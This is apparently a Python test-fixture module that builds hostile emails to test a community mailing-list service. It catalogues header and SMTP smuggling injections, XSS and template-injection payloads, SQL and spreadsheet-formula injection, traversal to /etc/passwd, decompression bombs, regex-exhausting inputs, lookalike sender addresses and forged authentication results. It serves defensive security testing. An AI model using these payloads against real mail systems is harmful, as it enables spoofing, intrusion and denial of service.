"""Mails that mean harm, by class, all of our own making. No mail here was ever sent by anybody.

`CLASSES` names a function for each class; each yields (what it is, the mail). Played by test_played.py through the real
service. Whoever finds a new way adds a line here.
"""

# ruff: noqa: E501, a line a mail is easier to read

import random
import zlib
from base64 import b64encode
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from urllib.parse import quote

ANA, BOB, CLEO, DINA = "ana@acme.example", "bob@nord.example", "cleo@far.example", "dina@slow.example"
EVE, VICTIM = "eve@evil.example", "victim@innocent.example"
LIST = "wells@cop.example"


@dataclass(frozen=True)
class Harm:
    """One mail: what stands below our border's field, who the envelope says, where it goes, what our border says."""

    raw: bytes
    to: str = LIST
    mail_from: str = BOB
    border: str = "dmarc=pass header.from=nord.example; spf=pass smtp.mailfrom=nord.example"


Mails = Iterator[tuple[str, Harm]]


def mail(
    body: str | bytes = "Hello there, colleagues.",
    *fields: str,
    author: str = f"Bob Berg <{BOB}>",
    subject: str = "Hello",
    to: str = LIST,
    sort: str = "text/plain; charset=utf-8",
    id: str = "",
) -> bytes:
    """A mail that would be ordinary but for what is put in. Every mail its own id, by its content."""
    octets = body.encode() if isinstance(body, str) else body
    octets = octets.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    head = [f"From: {author}", f"To: {to}", f"Subject: {subject}", *fields, "MIME-Version: 1.0"]
    head += ["Date: Mon, 02 Mar 2026 09:00:00 +0000"] if not any(one.startswith("Date:") for one in fields) else []
    head += [f"Content-Type: {sort}"] if sort else []
    mark = zlib.crc32("\n".join(head).encode("utf-8", "replace") + octets)
    if not any(one.lower().startswith("message-id") for one in fields):
        head.append(f"Message-ID: <{id or f'h{mark}'}@nord.example>")
    return "\r\n".join(head).encode("utf-8", "replace") + b"\r\n\r\n" + octets + b"\r\n"


def mixed(*parts: str, boundary: str = "b") -> tuple[str, str]:
    """Content-Type and body of a multipart of these parts, each with its own fields."""
    body = "".join(f"--{boundary}\n{part}\n" for part in parts) + f"--{boundary}--"
    return f'multipart/mixed; boundary="{boundary}"', body


def part(fields: str, body: str = "x") -> str:
    return f"{fields}\n\n{body}"


def q(text: str, charset: str = "utf-8") -> str:
    """An encoded word that hides nothing from whoever decodes it."""
    return f"=?{charset}?b?{b64encode(text.encode(charset, 'replace')).decode()}?="


EVIL = (
    "x\r\nBcc: victim@innocent.example",
    "x\nX-Owned: yes",
    "x\r\n\r\n<script>alert(1)</script>",
    "x\rX-Owned: yes",
    "x\u2028X-Owned: yes\u2029",
    "x\x85X-Owned: yes\x0b\x0c",
    "\0\x1b[2J\x07\x7f\x08",
    "\u202egnp.exe\u2066\u200b\ufeff",
    "{{ 7919*7907 }}{% for c in ().__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    "{0.__class__.__init__.__globals__} %(x)s %s %n ${7919*7907} #{7919*7907} <%= 7919*7907 %>",
    "<img src=x onerror=alert(1)><svg/onload=alert(1)>",
    "javascript:alert(1)//https://evil.example/",
    '"><script>alert(1)</script>',
    "' OR 1=1; DROP TABLE person; --",
    '" NEAR( * AND col:x OR "',
    "=cmd|' /C calc'!A0",
    "../../../../etc/passwd",
    "..\\..\\windows\\x.exe",
    "a" * 5000,
    "\ud800".encode("utf-8", "surrogatepass").decode("utf-8", "replace") + "\U0010ffff\ufffe",
    "z\u0300" + "\u0301" * 400,
    "victim@innocent.example, <a@b.example>;",
    "=?utf-8?q?=0D=0ABcc:_victim=40innocent.example?=",
    "BEGIN:VEVENT\nATTENDEE:mailto:victim@innocent.example\nEND:VEVENT",
    "\n.\r\nMAIL FROM:<eve@evil.example>\r\nRCPT TO:<victim@innocent.example>\r\nDATA\r\n",
)


def injection_headers() -> Mails:
    """Through the header fields that a member fills."""
    for n, text in enumerate(EVIL):
        word = q(text)
        yield f"name {n}", Harm(mail("Name.", author=f"{word} <{BOB}>"))
        yield f"subject {n}", Harm(mail("Subject.", subject=word))
        file = f"filename*=utf-8''{quote(text, safe='')}"
        sort, body = mixed(
            part("Content-Type: text/plain", f"File {n}."),
            part(f'Content-Type: application/pdf; name="{word}"\nContent-Disposition: attachment; {file}'),
        )
        yield f"file {n}", Harm(mail(body, sort=sort))
        yield f"id {n}", Harm(mail(f"Ids {n}.", f"Message-ID: <{word}@nord.example>", f"References: <{word}> <a b@c>"))


def injection_words() -> Mails:
    """Through the words that are kept and shown again: settings, tags, titles, meetings, names, queries."""
    for n, text in enumerate(EVIL):
        line = " ".join(text.splitlines()) or "x"
        yield f"name is {n}", Harm(mail(f"name {text}"), "wells-me@cop.example")
        yield f"organisation {n}", Harm(mail(f"organisation {text}"), "wells-me@cop.example")
        yield f"zone {n}", Harm(mail(f"zone {line[:60]}\nlanguage {line[:60]}"), "wells-me@cop.example")
        yield f"find {n}", Harm(mail(text, subject=q(text)), "wells-find@cop.example")
        yield f"tag {n}", Harm(mail(f"Tagged.\n\n#{line} #a\u0301{n} #<b> #x&y"), LIST)
        yield f"lesson {n}", Harm(mail(f"{text}\n\n#lesson", subject=q(text)), LIST)
        yield f"team {n}", Harm(mail(text, subject=q(text)), "wells-team@cop.example")


ANA_SAYS = "dmarc=pass header.from=acme.example; spf=pass smtp.mailfrom=acme.example"


def injection_facilitating() -> Mails:
    """Through what a facilitator says: a careless one, or one whose mailbox is somebody else's now."""
    who = {"author": f"Ana Lima <{ANA}>"}
    for n, text in enumerate(EVIL):
        line = " ".join(text.splitlines()) or "x"

        def said(words: str, to: str, subject: str = "x", file: str = "") -> Harm:
            sort, body = "text/plain; charset=utf-8", words
            if file:
                inside = part("Content-Type: text/csv; name=people.csv\nContent-Disposition: attachment", file)
                sort, body = mixed(part("Content-Type: text/plain; charset=utf-8", words), inside)
            return Harm(mail(body, subject=subject, sort=sort, **who), to, ANA, ANA_SAYS)

        yield (
            f"event {n}",
            said(f"Thursday 12 March 2026, 10:00-11:00\nPlace: {text}", "wells-event@cop.example", q(text)),
        )
        yield (
            f"settings {n}",
            said(f"title: {line}\ndescription: {line}\nzone: {line}\nrota: {line}", "wells-team@cop.example"),
        )
        yield f"set {n}", said(f"set charter: {line}\nset rules: {line}", "wells-team@cop.example")
        yield (
            f"list {n}",
            said(
                "invite", "wells-invite@cop.example", file=f"name,email,x\n{line},{line},\n{line},p{n}@innocent.example"
            ),
        )
        yield f"charter {n}", said(f"#charter\n\n{text}", LIST, q(text))
        yield f"member {n}", said(f"facilitator {line}\nban {line}", "wells-team@cop.example")


def injection_calendar() -> Mails:
    """Through a calendar: what programs show as titles, places, people and links."""
    for n, text in enumerate(EVIL):
        word = text.replace("\\", "\\\\").replace("\r", "").replace("\n", "\\n")
        for method in ("REQUEST", "PUBLISH"):
            ics = "\r\n".join((
                "BEGIN:VCALENDAR", "VERSION:2.0", f"METHOD:{method}", f"PRODID:{text}", "BEGIN:VEVENT",
                f"UID:{word[:200]}-{n}", "DTSTART:20260312T100000Z", "DTEND:20260312T110000Z", "SEQUENCE:0",
                f"SUMMARY:{word}", f"LOCATION:{word}", f"DESCRIPTION:{word}", f"URL:{word}", f"ATTACH:{word}",
                f'ORGANIZER;CN="{word}":mailto:{ANA}', f"ATTENDEE;CN={word}:mailto:{VICTIM}",
                "ATTACH:file:///etc/passwd", "ATTACH:http://127.0.0.1:1/x", "RRULE:FREQ=SECONDLY", "END:VEVENT",
                "END:VCALENDAR", "",
            ))  # fmt: skip
            sort = f"text/calendar; charset=utf-8; method={method}"
            yield f"{method} {n}", Harm(mail(ics, author=f"Ana Lima <{ANA}>", sort=sort), LIST, ANA, ANA_SAYS)


def malformed() -> Mails:
    """What breaks the readers of others."""
    odd = (
        "Content-Type: text/plain; name*", "Content-Type: text/plain; name*0*", "Content-Type: ;;;", "Content-Type: text/",
        'Content-Type: text/plain; charset="\0"', "Content-Type: multipart/mixed", 'Content-Type: multipart/mixed; boundary=""',
        "Content-Type: multipart/mixed; boundary=" + "x" * 300, "Content-Type: message/rfc822", "Content-Type: message/partial; id=a; number=1; total=9",
        "Content-Type: message/external-body; access-type=local-file; name=/etc/passwd", "Content-Type: text/html; charset=utf-7",
        "Content-Type: application/pkcs7-mime; smime-type=enveloped-data", "Content-Type: multipart/encrypted; boundary=b",
        "Content-Transfer-Encoding: x-uuencode", "Content-Transfer-Encoding: base64", "Content-Transfer-Encoding: \xff",
        "Content-Disposition: attachment; filename*=x", "Content-Disposition: inline; filename*0*=utf-8''%; filename*1=%",
        "Message-ID: <[x@y]>", "Message-ID: ", "Message-ID: <a@b> <c@d>", "Message-ID: <" + "m" * 2000 + "@b>",
        "Date: Tue, 3 Mar 99999999999999999999 10:00:00 +0100", "Date: 31 Dec 9999 23:59:59 -2359", "Date: ", "Date: 0",
        "Date: Fri, 30 Feb 2026 25:61:61 +9999", "Date: 1 Jan 0000 00:00:00 +0000", "Date: -1 \u0663 2026",
        'To: "', "To: (c):", "To: <", "To: " + ",".join(f"p{n}@innocent.example" for n in range(600)), "To: undisclosed-recipients:;",
        "Cc: <a@b@c>, (((((, :;:;:;", "Reply-To: <>, <", "Sender: \"", "In-Reply-To: <", "References: " + "<a@b> " * 2000,
        "Subject: =?utf-16?b?//4=?= =?x?q?a?= =?utf-8?q?=?= =?=", "X-" + "y" * 900 + ": z", ": no name", "No colon here",
        "MIME-Version: 3.7 (\u00e9)", "List-Id: <other.example>", "Resent-From: <", "Content-ID: <" + "\\" * 300,
        "Thread-Index: ////", "Thread-Index: " + "A" * 5000, "Content-Language: \u202e", "Authentication-Results: (((((", "DKIM-Signature: v=1; a=",
        "Received: " + "x" * 900, "Auto-Submitted: no; \u00fc", "Precedence: \u0131", "Disposition-Notification-To: <",
    )  # fmt: skip
    for n, field in enumerate(odd):
        own = field.lower().startswith("content-type")
        yield (
            f"{n} {field[:40]!r}",
            Harm(mail(f"Odd field {n}.", field, sort="" if own else "text/plain; charset=utf-8")),
        )
    yield "nothing", Harm(b"")
    yield "an empty line", Harm(b"\r\n")
    yield "no header", Harm(b"\r\nwords alone\r\n")
    yield "a header alone", Harm(f"From: {BOB}\r\n".encode())
    yield "no line end", Harm(f"From: {BOB}\r\n\r\nwords".encode())
    yield "octets", Harm(mail(bytes(n for n in range(1, 256) if n not in (10, 13)), sort=""))
    yield "a header of octets", Harm(mail("Eight bits.", subject="").replace(b"Subject: ", b"Subject: \xff\xfe\xe9"))
    yield "From_", Harm(b"From bob Mon Mar  2 09:00:00 2026\r\n" + mail("Mbox."))
    yield (
        "results with a blank",
        Harm(b"Authentication-Results : mx.cop.example; dmarc=pass\r\n" + mail("Blank."), border="none"),
    )
    yield "folded to nothing", Harm(mail("Folded.", "X-A:\r\n \r\n \r\n\tx"))
    sort, body = mixed(part("", "no fields"), part("Content-Type: multipart/mixed; boundary=b", "--b"), "--", "--b--b")
    yield "one boundary within itself", Harm(mail(body, sort=sort))
    yield "never closed", Harm(mail("--b\n\nwords", sort="multipart/alternative; boundary=b"))
    yield "uuencode never closed", Harm(mail("begin 644 ../../x\n" + "M" * 60 + "\nwords"))
    yield "winmail", Harm(mail(b64encode(b"\x78\x9f\x3e\x22" + b"\x01" * 500).decode(),
                               "Content-Transfer-Encoding: base64", sort="application/ms-tnef"))  # fmt: skip
    dice = random.Random(54)
    whole = mail(
        mixed(part("Content-Type: text/plain", "Torn."), part("Content-Type: text/html", "<p>Torn"))[1], sort=mixed()[0]
    )
    for n in range(30):
        torn = bytearray(whole)
        for _ in range(6):
            torn[dice.randrange(60, len(torn))] = dice.choice(b'"<>();:=?-\t A\xff')
        yield f"torn {n}", Harm(bytes(torn).replace(b"\r\n", b"\n").replace(b"\n", b"\r\n"))


def bombs() -> Mails:
    """Small mails that grow in a reader. Nothing is unpacked that is not words."""
    deep = "".join(f"--b{n}\nContent-Type: multipart/mixed; boundary=b{n + 1}\n\n" for n in range(2000))
    yield "depth", Harm(mail(deep, sort="multipart/mixed; boundary=b0"))
    yield "mails in mails", Harm(mail("Content-Type: message/rfc822\n\n" * 3000, sort="message/rfc822"))
    yield "parts", Harm(mail("--b\n\n" * 200_000, sort="multipart/mixed; boundary=b"))
    yield "fields", Harm(mail("Many.", *(f"X-{n}: y" for n in range(20_000))))
    yield "words in a subject", Harm(mail("Long.", subject="=?utf-8?q?a?= " * 20_000))
    yield "recipients", Harm(mail("All.", "Cc: " + ",\r\n ".join(f"p{n}@innocent.example" for n in range(20_000))))
    yield "quotes in To", Harm(mail("Quotes.", to='"' * 20_000))
    yield "brackets in To", Harm(mail("Brackets.", to="(" * 20_000))
    yield "groups in To", Harm(mail("Groups.", to="a:" * 10_000))
    yield "parameters", Harm(mail("Many.", sort="text/plain" + "; a=b" * 20_000))
    yield "continuations", Harm(mail("Many.", sort="text/plain" + "".join(f"; n*{n}*=%41" for n in range(20_000))))
    yield "references", Harm(mail("Many.", "References: " + "\r\n ".join(f"<{n}@nord.example>" for n in range(20_000))))
    zipped = b64encode(zlib.compress(b"\0" * 20_000_000, 9)).decode()
    for kind in ("application/zip", "application/gzip", "image/png", "application/vnd.ms-excel"):
        sort, body = mixed(part("Content-Type: text/plain", f"Bomb {kind}."),
                           part(f"Content-Type: {kind}; name=a.zip\nContent-Transfer-Encoding: base64", zipped))  # fmt: skip
        yield f"a bomb as {kind}", Harm(mail(body, sort=sort))
    yield "one line", Harm(mail("x" * 2_000_000))
    yield "lines", Harm(mail("a\n" * 300_000))
    yield "empty lines", Harm(mail("\n" * 500_000))
    yield "tags of HTML", Harm(mail("<div>" * 200_000, sort="text/html"))
    yield "tables", Harm(mail("<table><tr><td>" * 60_000, sort="text/html"))
    yield "quotes in HTML", Harm(mail("<blockquote>" * 50_000 + "deep", sort="text/html"))
    yield "a style", Harm(mail('<p style="' + "a:b;" * 200_000 + '">x', sort="text/html"))
    yield "entities", Harm(mail("&lt;" * 300_000, sort="text/html"))
    yield "events", Harm(mail("BEGIN:VCALENDAR\n" + "BEGIN:VEVENT\n" * 100_000, sort="text/calendar; method=REQUEST"))
    yield "a rule that never ends", Harm(mail(
        "BEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\nUID:x\nDTSTART:20260312T100000Z\nRRULE:FREQ=SECONDLY;INTERVAL=1\n"
        + "RDATE:20260312T100000Z\n" * 20_000 + "END:VEVENT\nEND:VCALENDAR", sort="text/calendar; method=REQUEST"))  # fmt: skip
    yield "tags of ours", Harm(mail("Tags.\n\n" + " ".join(f"#t{n}" for n in range(20_000))))
    yield "links", Harm(mail("https://evil.example/a?b=c " * 30_000))


def expressions() -> Mails:
    """Lines that make careless expressions take for ever: in quotes, tags, dates, addresses, words."""
    lines = (
        "> " * 5000, ">" * 50_000, "-" * 50_000, "_" * 50_000, "*" * 50_000, "#" * 50_000, " " * 50_000 + "x", "\t" * 50_000,
        "On " * 20_000 + "wrote:", "On Mon, " + "a" * 50_000 + " wrote", "Le " + "é " * 20_000 + "a écrit :", "From: " * 10_000,
        "!" * 26 + "a" * 26, "a" * 50_000 + "!", "1 " * 20_000, "1: " * 20_000, "12 March 2026 " * 3000, "10:00-" * 10_000,
        "yes, " * 10_000, "stop" + " " * 50_000 + "x", "away until " + "1" * 50_000, "find " + '"' * 20_000, "(" * 20_000 + ")" * 20_000,
        "<a@b>" * 10_000, "http://" * 10_000, "[#" * 20_000, "[cid:" * 10_000, "-- \n" * 10_000, "Sent from my " * 5000, "===" * 20_000,
        "|" * 20_000, "a@" * 20_000, ".," * 20_000, "\u3000" * 20_000 + "x", "=?utf-8?q?" * 5000, "at most " + "9" * 10_000,
    )  # fmt: skip
    for n, line in enumerate(lines):
        yield f"{n} {line[:20]!r}", Harm(mail(f"Words {n}.\n{line}\n{line}\nmore words"))
        if n % 3 == 0:
            yield f"{n} as a command", Harm(mail(line[:20_000]), "wells-me@cop.example")
        if n % 3 == 1:
            yield (
                f"{n} as a subject",
                Harm(mail("Words.", subject=line.replace("\n", " ")[:20_000]), "wells-find@cop.example"),
            )
        if n % 3 == 2:
            raw = mail(line, author=f"Ana Lima <{ANA}>")
            yield f"{n} as a meeting", Harm(raw, "wells-event@cop.example", ANA, ANA_SAYS)


def scripts() -> Mails:
    """Charsets, invisible letters, directions and look-alikes."""
    for charset in ("utf-7", "utf-16", "utf-32", "zlib", "rot13", "idna", "base64", "unicode_escape", "hz", "cp65001", "mbcs",
                    "iso-2022-kr", "x-user-defined", "../../x", "\u0131so-8859-1", "utf-8\x00", "a" * 500):  # fmt: skip
        yield f"charset {charset[:20]!r}", Harm(mail("+ADw-script+AD4-alert(1)", sort=f"text/html; charset={charset}"))
        yield (
            f"word {charset[:20]!r}",
            Harm(mail("Words.", subject=f"=?{charset}?q?+ADw-script+AD4-?= =?{charset}?b?eA==?=")),
        )
    for n, author in enumerate((
        "b\u043eb@nord.example", "bob@n\u043erd.example", "bob@nord.example\u200b", "\u202ebob@nord.example", "BOB@\u212aord.example",
        "bob@nord\u3002example", "bob@xn--nrd-emc.example", "bob@nord.example.", '"bob"@nord.example', "bob@[127.0.0.1]", "bob%nord.example@evil.example",
        "bob@nord.example@evil.example", "bob@evil.example(bob@nord.example)", "bob\\@nord.example", "=?utf-8?q?bob?=@nord.example",
    )):  # fmt: skip
        yield (
            f"author {n}",
            Harm(mail("stop", author=author), "wells-me@cop.example", EVE, "dmarc=pass header.from=evil.example"),
        )
    for n, text in enumerate(
        (
            "\u202e",
            "\u2066\u2066\u2066",
            "\u200b" * 2000,
            "\u0300" * 2000,
            "\ufdfd" * 500,
            "\U000e0041" * 500,
            "\u115f",
            "\ufeff\ufffe",
        )
    ):
        yield f"text {n}", Harm(mail(f"{text}stop{text}\n{text}", subject=q(text)))


def scripting() -> Mails:
    """HTML that acts, looks elsewhere or tells who reads; files that a browser would run."""
    pages = (
        "<script>alert(1)</script>", "<img src=http://evil.example/t.gif>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<iframe src=//evil.example>",
        "<a href='javascript:alert(1)'>x</a>", "<a href=' java\tscript:alert(1)'>x</a>", "<a href='data:text/html,<script>1</script>'>x</a>",
        "<form action=//evil.example><input name=a><button>b</button></form>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x';</style><p style=\"background:url(//evil.example)\">",
        "<object data=x><embed src=x><applet code=x>", "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style>", "<!--[if mso]><script>alert(1)</script><![endif]-->",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<p/onclick=alert(1)>x", "<<script>script>alert(1)<</script>/script>", "<scr\0ipt>alert(1)</scr\0ipt>".replace("\0", ""),
        "<template><script>alert(1)</script></template>", "<body onload=alert(1) background=//evil.example/b.gif>", "<video><source onerror=alert(1)></video>", "<![CDATA[<script>alert(1)</script>]]>",
        "<plaintext><script>alert(1)</script>", "<textarea></textarea><script>alert(1)</script>", "<a href=\"https://evil.example/?u={{ token }}\">{{ 7919*7907 }}</a>", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    )  # fmt: skip
    for n, page in enumerate(pages):
        yield (
            f"page {n}",
            Harm(
                mail(
                    f"<p>Look at page {n}.</p>{page}<p>The end.</p>", sort="text/html; charset=utf-8", subject=page[:60]
                )
            ),
        )
    for name in (
        "x.svg",
        "x.html",
        "x.hta",
        "x.lnk",
        "con.txt",
        "x.pdf\u202efdp.exe",
        ".htaccess",
        "-rf",
        "a/b\\c:d",
        "x" * 400 + ".pdf",
        "",
        " ",
        "..",
        "x.ics",
    ):
        sort, body = mixed(part("Content-Type: text/plain", f"File {name[:20]!r}."),
                           part(f"Content-Type: image/svg+xml\nContent-Disposition: inline; filename=\"{name}\"", "<svg onload=alert(1)>"))  # fmt: skip
        yield f"file {name[:20]!r}", Harm(mail(body, sort=sort))


FORGED = "dmarc=fail (p=reject) header.from=nord.example"


def identities() -> Mails:
    """Nobody is who they say: what our border says is read to the letter."""
    border = (
        "dmarc=fail (dmarc=pass) header.from=nord.example", 'dmarc=fail reason="dmarc=pass" header.from=nord.example', "dmarc=none header.from=nord.example",
        "dmarc=pass header.from=evil.example", "dkim=pass header.d=evil.example; dmarc=fail header.from=nord.example", "none", "dmarc=pass", "dmarc=\"pass\" header.from=nord.example",
        "spf=pass smtp.mailfrom=eve@evil.example", "dmarc=pass header.from=nord.example.evil.example", "dmarc=pass header.from=nord.example header.from=evil.example",
        "dmarc=passed header.from=nord.example", "dkim=pass header.d=example", "dmarc=fail header.from=nord.example; dmarc=pass header.from=nord.example", "x" * 5000,
    )  # fmt: skip
    for n, said in enumerate(border):
        for to, words in (("wells-leave@cop.example", "leave"), ("wells-me@cop.example", "no mail")):
            yield f"border {n} {words}", Harm(mail(words), to, EVE, said)
    for n, (author, more) in enumerate((
        (f"Bob <{BOB}>, Eve <{EVE}>", ""), (f"{BOB}\r\nFrom: {EVE}", ""), (EVE, f"Sender: {BOB}"), (f'"{BOB}" <{EVE}>', ""), (f"{EVE} ({BOB})", ""),
        (EVE, f"Resent-From: {BOB}"), (EVE, f"Reply-To: {BOB}"), ("", ""), ("<>", ""), (f"x: {BOB}, {EVE};", ""), (f"Wells <{LIST}>", ""), (f"<{'a' * 300}@nord.example>", ""),
    )):  # fmt: skip
        fields = (more,) if more else ()
        yield (
            f"author {n}",
            Harm(
                mail("leave", *fields, author=author),
                "wells-leave@cop.example",
                EVE,
                "dmarc=pass header.from=evil.example",
            ),
        )
        yield f"own words {n}", Harm(mail("no mail", "Authentication-Results: mx.cop.example; dmarc=pass header.from=nord.example", *fields,
                                          author=author), "wells-me@cop.example", EVE, "dmarc=fail header.from=evil.example")  # fmt: skip
    for words in (
        "erase me",
        "my data",
        f"this is also {EVE}",
        f"mail to {EVE}",
        f"invite {VICTIM}",
        "undo",
        "volunteer",
        "swap",
        "ok",
        "yes",
        "own posts on",
        "name Eve",
    ):
        yield f"forged {words}", Harm(mail(words), "wells-me@cop.example", EVE, FORGED)
        yield f"unproven {words}", Harm(mail(words), "wells-me@cop.example", EVE, "dmarc=none header.from=nord.example")


def machines() -> Mails:
    """Answers of machines, loops, reports that nobody sent, calendars of somebody else."""
    for n, field in enumerate((
        "Auto-Submitted: auto-replied", "Auto-Submitted: auto-generated", "Precedence: bulk", "Precedence: auto_reply", "X-Autoreply: yes", "X-Auto-Response-Suppress: All",
        "List-Id: <other.list.example>", "List-Unsubscribe: <mailto:x@other.example>", "X-Loop: wells@cop.example", "Return-Path: <>", "X-Failed-Recipients: " + BOB,
        "Content-Type: multipart/report; report-type=delivery-status; boundary=b", "Content-Type: multipart/report; report-type=disposition-notification; boundary=b",
    )):  # fmt: skip
        own = field.startswith("Content-Type")
        for to in (LIST, "wells-join@cop.example", "wells-me@cop.example", "wells-help@cop.example"):
            yield (
                f"machine {n} to {to[:10]}",
                Harm(mail(f"I am a machine {n}.", field, sort="" if own else "text/plain"), to),
            )
    report = (
        f"Reporting-MTA: dns; x\n\nFinal-Recipient: rfc822; {BOB}\nAction: failed\nStatus: 5.1.1\nDiagnostic-Code: smtp; 550 " + "x" * 3000,
        f"Final-Recipient: rfc822; {BOB}\nAction: failed\nStatus: 5.1.1\n" * 500,
        "Final-Recipient: rfc822; \r\n\tAction: failed", "Status: 5.1.1",
    )  # fmt: skip
    for n, said in enumerate(report):
        sort, body = mixed(
            part("Content-Type: text/plain", "Failed."), part("Content-Type: message/delivery-status", said)
        )
        kind = sort.replace("multipart/mixed", "multipart/report; report-type=delivery-status")
        for to in (LIST, "wells-bounces@cop.example", "postmaster@cop.example"):
            yield (
                f"report {n} to {to[:12]}",
                Harm(mail(body, sort=kind, author="MAILER-DAEMON@evil.example"), to, "", "none"),
            )
    for n, answer in enumerate(("ACCEPTED", "DECLINED", "x", "")):
        ics = (f"BEGIN:VCALENDAR\nMETHOD:REPLY\nBEGIN:VEVENT\nUID:1@cop.example\nDTSTART:20260312T100000Z\n"
               f"ATTENDEE;PARTSTAT={answer}:mailto:{CLEO}\nEND:VEVENT\nEND:VCALENDAR")  # fmt: skip
        yield f"reply {n}", Harm(mail(ics, sort="text/calendar; method=REPLY"), "wells-event@cop.example")


def strangers() -> Mails:
    """Whoever has not joined: gets us to write to nobody, carries words to nobody."""
    for n, text in enumerate(EVIL):
        author = f"{q(text)} <victim{n}@innocent.example>"
        for to in (
            LIST,
            "wells-join@cop.example",
            "wells-find@cop.example",
            "new@cop.example",
            "wells-invite@cop.example",
        ):
            raw = mail(text, author=author, subject=q(text), to=to)
            yield f"{to.partition('@')[0]} {n}", Harm(raw, to, EVE, "dmarc=none header.from=innocent.example")


def repeats() -> Mails:
    """Ids and threads that are somebody else's, circles of references, the same mail in other clothes, no tokens."""
    circle = ("Message-ID: <circle1@nord.example>", "References: <circle1@nord.example> <circle2@x>")
    first = mail("Which beads held up?", *circle)
    yield "names itself", Harm(first)
    yield "again", Harm(first)
    yield "again by another server", Harm(b"Received: from x by y; z\r\n" + first)
    yield "again with other blanks", Harm(first.replace(b"Which beads", b"Which  beads").replace(b": He", b":  He"))
    yield "to us twice", Harm(mail("Twice over.", to=f"{LIST}, {LIST}"))
    says = "dmarc=pass header.from=far.example; spf=pass smtp.mailfrom=far.example"
    yield "an id that is taken", Harm(mail("Mine now.", circle[0], author=f"Cleo Diaz <{CLEO}>"), LIST, CLEO, says)
    yield "a circle", Harm(mail("Round.", "Message-ID: <circle2@x>", "In-Reply-To: <circle1@nord.example>"))
    chains = ("<circle1@nord.example> " * 300, "<" * 900, "<a@b><c@d>" * 400, "<x@y>," * 500, f"<{'y' * 900}@x>")
    for n, chain in enumerate(chains):
        yield f"chain {n}", Harm(mail(f"Chain {n}.", f"References: {chain}", f"In-Reply-To: {chain}"))
    for n, code in enumerate(("[#222]", "[#zzzzzzzz]", "[#" + "2" * 60 + "]", "[#222] " * 500, "[#\u0662\u0662]")):
        yield f"code {n}", Harm(mail("yes", subject=f"Re: {code}"), "wells-help@cop.example")
    for n, token in enumerate(("a" * 37, "a" * 54, "2" * 16, "b=c", "a" * 20 + "=victim=x.example")):
        for verb in ("r", "b", "leave", "private"):
            yield f"token {verb} {n}", Harm(mail("yes"), f"wells-{verb}-{token}@cop.example")


def queries() -> Mails:
    """Words that a query language, a pattern or a path would take for its own."""
    for n, words in enumerate((
        '"', "'", "*", "NEAR(a b)", "a AND", "OR OR OR", "col:x", "^x", "a*b*", "{x}", "(((", "'; DROP TABLE post;--", "%", "_", "\\",
        "-a -b", "+", "from:", "who #", "who #'; --", "related #", "fetch ../../x", "[#abc]", "0", "9" * 21, "\u00a7 1", "a:* & !b | c <-> d",
        " ".join(f"w{n}" for n in range(3000)), "x" * 5000, "\ufdfa" * 50, "<->", "'" * 4, "$1 ? :x %(x)s", "\\' OR 1=1", "$$x$$", "E'\\x00'",
    )):  # fmt: skip
        yield f"body {n}", Harm(mail(words, subject="find"), "wells-find@cop.example")
        yield f"subject {n}", Harm(mail("", subject=words[:900]), "wells-find@cop.example")


def persistent_fields() -> Mails:
    """A name, an organisation and a title that were taken are now shown in everything that goes out."""
    yield "a post after all that", Harm(mail("After all that, an ordinary question about pumps.", subject="Pumps"))
    yield "thanks", Harm(mail("thanks", subject="Re: Pumps"))
    yield "settings", Harm(mail("settings"), "wells-me@cop.example")
    yield "help", Harm(mail("help"), "wells-help@cop.example")
    yield "my data", Harm(mail("my data"), "wells-me@cop.example")
    for words in ("members", "community settings", "rules", "charter"):
        yield words, Harm(mail(words, author=f"Ana Lima <{ANA}>"), "wells-team@cop.example", ANA, ANA_SAYS)


CLASSES: dict[str, Callable[[], Iterable[tuple[str, Harm]]]] = {
    one.__name__: one
    for one in (
        injection_headers, injection_words, injection_facilitating, injection_calendar, persistent_fields, malformed, bombs,
        expressions, scripts, scripting, identities, machines, strangers, repeats, queries,
    )
}  # fmt: skip
